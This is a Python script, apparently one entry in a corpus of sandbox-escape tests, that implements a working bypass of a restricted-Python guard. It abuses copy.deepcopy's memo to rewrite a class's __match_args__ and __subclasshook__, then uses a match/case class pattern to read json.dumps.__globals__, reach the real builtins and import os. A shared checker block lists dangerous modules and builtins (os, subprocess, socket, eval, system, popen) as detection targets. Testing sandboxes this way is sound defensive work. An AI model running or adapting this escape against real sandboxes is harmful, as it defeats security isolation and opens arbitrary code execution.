# technique: copy._reconstruct's guard checks the slot-state names ('_a', '_b': private, accepted) before copy deep-copies that state through the caller's memo, which maps the interned '_a'/'_b' to any names (check-then-use, as in 188); the args are mapped too: copyreg.__newobj__(cls) with cls swapped for an instance whose class's __new__ returns a snippet class, so y is the class itself; copy then setattr(Target, '__match_args__', ('__globals__',)) and setattr(Target, '__subclasshook__', classmethod(...)) after the class guard has seen it: Target is an abc.ABC, so every object is an instance, and `case Target(g)` reads f.__globals__ by the re-armed __match_args__
# source: 188 (deepcopy memo substitution) applied to copy's slot-state setattr instead of the reduce func; class-pattern positional reads by __match_args__ (guarded only at class creation) + ABCMeta.__subclasshook__ isinstance
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import abc
import copy
import json


class Target(abc.ABC):
    pass


class Factory:
    # copyreg.__newobj__(cls) calls cls.__new__(cls): with cls swapped for
    # a Factory instance, that is Factory.__new__(instance) -> Target itself
    def __new__(cls, *a):
        if cls is Factory:
            return object.__new__(Factory)
        return Target


class Slotted:
    __slots__ = ('_a', '_b')

    def fill(self, a, b):
        self._a = a
        self._b = b


def set_attrs(obj_factory, names_values):
    # object.__reduce_ex__(4) of a slotted instance:
    #   (copyreg.__newobj__, (Slotted,), (None, {'_a': va, '_b': vb}))
    # the guard checks the slot names '_a'/'_b' (private: accepted), then
    # copy deep-copies the state through the caller's memo, which maps the
    # interned '_a'/'_b' to any names
    s = Slotted()
    s.fill(names_values[0][1], names_values[1][1])
    memo = {id(Slotted): obj_factory, id('_a'): names_values[0][0], id('_b'): names_values[1][0],
            id(names_values[0][1]): names_values[0][1], id(names_values[1][1]): names_values[1][1]}
    return copy.deepcopy(s, memo)


def hook(cls, C):
    return True


y = set_attrs(Factory(), [(dn('match_args'), (dn('globals'),)),
                          (dn('subclasshook'), classmethod(hook))])
print('copy returned the class itself:', y is Target)


def read_globals(f):
    match f:
        case Target(g):
            return g
    return None


g = read_globals(json.dumps)
if check('json.dumps globals via a class pattern on a re-armed __match_args__', g):
    b = g[dn('builtins')]
    check('real builtins', b)
    attempt('os through the real __import__', lambda: b[dn('import')]('os'))
